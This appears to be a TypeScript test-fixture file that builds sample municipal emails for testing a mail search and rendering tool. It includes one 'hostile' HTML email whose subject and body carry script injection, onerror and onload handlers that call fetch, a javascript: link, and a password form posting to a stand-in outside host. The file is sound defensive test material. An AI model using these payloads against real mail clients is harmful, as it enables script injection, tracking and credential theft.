import { advice } from './advice';
import { hostileMails } from './hostile';

const picture =
  'iVBORw0KGgoAAAANSUhEUgAAABAAAAAQCAIAAACQkWg2AAAAFklEQVR42mPQqw0mCTGMahjVMHw1AADkzP4BPmBb+QAAAABJRU5ErkJggg==';

/** The mail these tests search and read, by file name. `elsewhere` is where the hostile one would like to get to. */
export function mails(elsewhere: string): Record<string, string> {
  return {
    'budget-1': letter('Ana Rivera', 'Sewer bond budget for 2027', 1, budget),
    'budget-2': letter('Theo Lindqvist', 'Re: Sewer bond budget for 2027', 2, reply),
    'budget-3': letter('Public Works', 'Budget hearing moved to Thursday', 3, hearing),
    agenda: withAttachment,
    newsletter,
    hostile: hostile(elsewhere),
    report: journalReport,
    forwarded,
    encrypted,
    ...advice,
    ...hostileMails(elsewhere),
    unwieldy: letter(
      'x'.repeat(80),
      `Unwieldy ${'word'.repeat(60)}`,
      9,
      `unwieldy ${'0123456789'.repeat(40)}`,
    ),
  };
}

function letter(sender: string, subject: string, day: number, text: string): string {
  const address = sender.toLowerCase().replaceAll(' ', '.');
  return `From: ${sender} <${address}@city.example>
To: City Council <council@city.example>
Cc: clerk@city.example
Date: Tue, 0${day} Sep 2026 09:1${day}:00 -0500
Message-ID: <letter-${day}@city.example>
Subject: ${subject}
MIME-Version: 1.0
Content-Type: text/plain; charset=utf-8

${text}
`;
}

const budget = `Council members,

Attached to tomorrow's agenda you will find the budget for the sewer bond. The estimate for
Harbor Street has gone up by 4 percent since the spring; the reserve covers it.

Please send questions before the hearing.

Ana Rivera
Finance Director`;

const reply = `Ana, thank you. Does the budget include the pump station on Mill Road? The levy cannot carry both.

Theo`;

const hearing = `The hearing on the capital budget moves to Thursday, 7 pm, in the library's meeting room.`;

const withAttachment = `From: "Office of the Clerk" <clerk@city.example>
To: council@city.example
Date: Fri, 04 Sep 2026 16:40:00 -0500
Message-ID: <agenda@city.example>
Subject: Agenda and minutes
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary=outer

--outer
Content-Type: text/plain; charset=utf-8

The agenda for the next meeting and the minutes of the last one are attached.
--outer
Content-Type: application/pdf; name="Agenda 2026-09-08.pdf"
Content-Disposition: attachment; filename="Agenda 2026-09-08.pdf"
Content-Transfer-Encoding: base64

JVBERi0xLjQKJeLjz9MKMSAwIG9iago8PD4+CmVuZG9iagp0cmFpbGVyCjw8Pj4KJSVFT0YK
--outer
Content-Type: text/csv; name="attendance.csv"
Content-Disposition: attachment; filename="attendance.csv"

name,present
Rivera,yes
--outer--
`;

const newsletter = `From: Parks and Recreation <parks@city.example>
To: residents@lists.city.example
Date: Sat, 05 Sep 2026 08:00:00 -0500
Message-ID: <newsletter@city.example>
Subject: =?utf-8?q?Autumn_in_the_parks_=E2=80=93_what=E2=80=99s_on?=
MIME-Version: 1.0
Content-Type: multipart/alternative; boundary=choice

--choice
Content-Type: text/plain; charset=utf-8

Autumn in the parks: guided walks every Sunday, and the boathouse stays open until October.
--choice
Content-Type: multipart/related; boundary=together

--together
Content-Type: text/html; charset=utf-8

<html><head><style>h1 { font-size: 40px }</style></head><body>
<table width="100%" bgcolor="#e8f3ec"><tr><td style="padding:16px">
<img src="cid:leaf@city.example" alt="Leaf" width="48" height="48">
<h1 style="color:#1d5c3a">Autumn in the parks</h1>
<p>Guided walks <b>every Sunday</b>, and the boathouse stays open until October.</p>
<p><a href="https://city.example/parks">All dates</a></p>
</td></tr></table></body></html>
--together
Content-Type: image/png; name=leaf.png
Content-ID: <leaf@city.example>
Content-Disposition: inline; filename=leaf.png
Content-Transfer-Encoding: base64

${picture}
--together--
--choice--
`;

function hostile(elsewhere: string): string {
  return `From: Prize Office <prizes@elsewhere.example>
To: clerk@city.example
Date: Sun, 06 Sep 2026 03:33:00 -0500
Message-ID: <hostile@elsewhere.example>
Subject: <script>document.title='broken'</script> You won <img src=${elsewhere}/subject>
MIME-Version: 1.0
Content-Type: text/html; charset=utf-8

<html><head>
<meta http-equiv="refresh" content="0;url=${elsewhere}/refresh">
<base href="${elsewhere}/">
<link rel="stylesheet" href="${elsewhere}/sheet.css"><link rel="prefetch" href="${elsewhere}/prefetch">
<style>@import url(${elsewhere}/import.css); body { background: url(${elsewhere}/style) }</style>
<script src="${elsewhere}/script.js"></script>
</head><body onload="new Image().src='${elsewhere}/onload'" background="${elsewhere}/background">
<h1>You won the hostile lottery</h1>
<script>document.title = 'broken'; parent.document.title = 'broken'; fetch('${elsewhere}/fetch')</script>
<img src="${elsewhere}/picture" srcset="${elsewhere}/set 2x" alt="A picture from elsewhere">
<img src=x onerror="fetch('${elsewhere}/onerror')">
<div style="background-image: url('${elsewhere}/css'); color: red">Styled</div>
<svg onload="fetch('${elsewhere}/svg')"><image href="${elsewhere}/svg-image"/></svg>
<form action="${elsewhere}/form"><input name="password"><button>Claim</button></form>
<iframe src="${elsewhere}/frame"></iframe><object data="${elsewhere}/object"></object>
<video poster="${elsewhere}/poster" autoplay><source src="${elsewhere}/video"></video>
<a href="javascript:fetch('${elsewhere}/javascript')">Click here</a>
<a href="${elsewhere}/link" target="_top">Or here</a>
</body></html>
`;
}

const journalReport = `From: journal@city.example
Sender: MicrosoftExchange329e71ec88ae4615bbc36ab6ce41109e@city.example
To: archive@city.example
Date: Mon, 07 Sep 2026 10:00:00 -0500
Message-ID: <0001@journal.report.generator>
Subject: Staffing at the harbor office
X-MS-Journal-Report:
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary=report

--report
Content-Type: text/plain; charset=us-ascii

Sender: human.resources@city.example
Subject: Staffing at the harbor office
Message-Id: <staffing@city.example>
To: harbor.master@city.example
Bcc: mayor@city.example
Cc: deputy@city.example, Expanded: harbor.team@city.example
--report
Content-Type: message/rfc822

From: Human Resources <human.resources@city.example>
To: Harbor Master <harbor.master@city.example>
Date: Mon, 07 Sep 2026 10:00:00 -0500
Message-ID: <staffing@city.example>
Subject: Staffing at the harbor office

Two positions at the harbor office stay open until spring.
--report--
`;

const forwarded = `From: Records <records@city.example>
To: counsel@city.example
Date: Tue, 08 Sep 2026 11:00:00 -0500
Message-ID: <forwarded@city.example>
Subject: Fwd: complaint about the dock
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary=fwd

--fwd
Content-Type: text/plain; charset=no-such-charset

Please advise on the complaint below.
--fwd
Content-Type: message/rfc822

From: Resident <resident@mail.example>
To: records@city.example
Date: Mon, 07 Sep 2026 20:00:00 -0500
Message-ID: <complaint@mail.example>
Subject: The dock

The dock has been closed since July, and nobody answers.
--fwd--
`;

const encrypted = `From: Counsel <counsel@city.example>
To: mayor@city.example
Date: Tue, 08 Sep 2026 12:00:00 -0500
Message-ID: <sealed@city.example>
Subject: Privileged
MIME-Version: 1.0
Content-Type: application/pkcs7-mime; smime-type=enveloped-data; name=smime.p7m
Content-Disposition: attachment; filename=smime.p7m
Content-Transfer-Encoding: base64

MIAGCSqGSIb3DQEHA6CAMIACAQAxADCABgkqhkiG9w0BBwGgAA==
`;
